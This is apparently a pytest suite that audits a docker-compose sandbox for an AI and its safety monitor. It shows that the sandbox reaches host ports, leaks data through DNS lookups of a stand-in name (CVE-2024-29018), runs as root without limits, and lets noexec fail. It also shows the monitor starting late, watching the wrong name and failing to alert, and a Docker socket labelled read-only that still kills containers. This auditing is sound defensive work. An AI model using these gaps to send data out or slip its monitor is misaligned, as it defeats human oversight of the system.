"""What the document's own compose file does, tried: the reasons for what the example does instead."""

import json
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from tests.docker import Daemon, images
from tests.docker.test_daemon import listening
from tests.examples.sandbox.stage import until

pytestmark = pytest.mark.docker

FILE = Path(__file__).with_name("document.yml")
RESOLVER = """
import socket, sys
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
    asked.bind(("127.0.0.1", 53))
    print("ready", flush=True)
    while True:
        print(asked.recv(512)[12:], flush=True)
"""
ASK = """
import http.client, json, socket, sys
class Docker(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/var/run/docker.sock")
docker = Docker("docker")
docker.request(*sys.argv[1:])
print(docker.getresponse().status)
"""


def compose(daemon: Daemon, *arguments: str) -> str:
    url = {"ALERT_WEBHOOK_URL": "http://alerts.example.com/"}
    done = subprocess.run(
        ["docker-compose", "--file", str(FILE), "--project-name", "document", *arguments],
        env=daemon.environment | url,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        check=True,
    )
    return done.stdout


@pytest.fixture
def documented(daemon: Daemon) -> Iterator[Daemon]:
    """The document's sandbox, up."""
    daemon.empty()
    images.provide(daemon)
    said = compose(daemon, "up", "--detach")
    assert "WARN" not in said
    yield daemon
    compose(daemon, "down", "--volumes", "--timeout", "1")


def inside(daemon: Daemon, script: str, name: str = "project-ai-sandbox", *arguments: str) -> str:
    return daemon.docker("exec", name, "python3", "-c", script, *arguments)


def inspected(daemon: Daemon, name: str) -> dict[str, Any]:
    (found,) = json.loads(daemon.docker("inspect", name))
    return dict(found)


def test_its_port_is_not_published_and_nobody_says_so(documented: Daemon) -> None:
    found = inspected(documented, "project-ai-sandbox")
    assert found["HostConfig"]["PortBindings"]["8000/tcp"]
    assert not found["NetworkSettings"]["Ports"].get("8000/tcp")
    ask = documented.within("curl", "--silent", "--max-time", "3", "http://127.0.0.1:8000/")
    assert subprocess.run(ask, capture_output=True, check=False).returncode == 7


def test_its_network_leads_to_every_port_of_the_machine(documented: Daemon) -> None:
    server = subprocess.Popen(
        documented.within("python3", "-m", "http.server", "9999"),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        gateway = inspected(documented, "project-ai-sandbox")["NetworkSettings"]["Networks"][
            "document_sandbox_network"
        ]["Gateway"]
        get = "import urllib.request as r, sys; print(r.urlopen(sys.argv[1], timeout=3).status)"
        for address in (gateway, "10.0.2.100"):
            url = f"http://{address}:9999/"
            until(partial(reached, documented, get, url), f"{url} to be reached", 10)
    finally:
        server.kill()
        server.wait()


def reached(daemon: Daemon, script: str, url: str) -> bool:
    done = daemon.tried("exec", "project-ai-sandbox", "python3", "-c", script, url)
    return done.stdout == "200\n"


@contextmanager
def resolver_on_loopback(daemon: Daemon, file: Path) -> Iterator["subprocess.Popen[str]"]:
    """As systemd-resolved has it: the machine asks a resolver at an address of its loopback."""
    file.write_text("nameserver 127.0.0.1\n")
    mounts = ["nsenter", f"--mount=/proc/{daemon.pid}/ns/mnt", "--"]
    subprocess.run([*mounts, "mount", "--bind", str(file), "/etc/resolv.conf"], check=True)
    asked = subprocess.Popen(daemon.within("python3", "-c", RESOLVER), stdout=subprocess.PIPE, text=True)
    try:
        assert asked.stdout is not None
        assert asked.stdout.readline() == "ready\n"
        yield asked
    finally:
        asked.kill()
        asked.communicate()
        subprocess.run([*mounts, "umount", "/etc/resolv.conf"], check=True)


def test_its_names_are_asked_outside(daemon: Daemon, tmp_path: Path) -> None:
    """CVE-2024-29018: what the sandbox wants to tell goes out as a question for a name."""
    images.provide(daemon)
    daemon.empty()
    with resolver_on_loopback(daemon, tmp_path / "resolv.conf") as asked:
        compose(daemon, "up", "--detach")
        says = "import socket\ntry: socket.getaddrinfo('all-i-know.example.com', 1)\nexcept OSError: pass"
        inside(daemon, says)
        assert asked.stdout is not None
        assert "all-i-know" in asked.stdout.readline()
    compose(daemon, "down", "--volumes", "--timeout", "1")


def test_its_data_are_on_the_disk_without_an_end_and_outlive_it(documented: Daemon) -> None:
    inside(documented, "open('/app/data/big', 'wb').write(b'x' * (200 << 20))")
    compose(documented, "down", "--timeout", "1")
    assert documented.docker("volume", "ls", "--quiet").split() == ["document_sandbox_data"]
    compose(documented, "up", "--detach")
    assert inside(documented, "import os; print(os.path.getsize('/app/data/big') >> 20)") == "200\n"


def test_its_limits_are_half_of_what_is_needed(documented: Daemon) -> None:
    found = inspected(documented, "project-ai-sandbox")
    host = found["HostConfig"]
    assert host["MemorySwap"] == 2 * host["Memory"], "as much again is swapped"
    assert not host["PidsLimit"]
    assert found["Config"]["User"] == ""
    assert inside(documented, "import os; print(os.getuid())") == "0\n"


def test_noexec_stops_no_script(documented: Daemon) -> None:
    inside(documented, "open('/tmp/x.py', 'w').write('print(42)')")
    assert documented.docker("exec", "project-ai-sandbox", "python3", "/tmp/x.py") == "42\n"


def test_its_monitor_comes_second_has_the_wrong_name_and_reaches_no_webhook(documented: Daemon) -> None:
    watched, monitor = (inspected(documented, name) for name in ("project-ai-sandbox", "safety-monitor"))
    assert watched["State"]["StartedAt"] < monitor["State"]["StartedAt"]
    name = next(one for one in monitor["Config"]["Env"] if one.startswith("MONITORED")).partition("=")[2]
    assert inside(documented, ASK, "safety-monitor", "GET", f"/containers/{name}/json") == "404\n"
    with listening() as (port, came):
        says = f"import socket; socket.create_connection(('{documented.outside}', {port}), 3).send(b'alert')"
        assert documented.tried("exec", "safety-monitor", "python3", "-c", says).returncode != 0
        assert came == []


def test_its_read_only_socket_obeys(documented: Daemon) -> None:
    assert inside(documented, ASK, "safety-monitor", "POST", "/containers/project-ai-sandbox/kill") == "204\n"
    assert not inspected(documented, "project-ai-sandbox")["State"]["Running"]
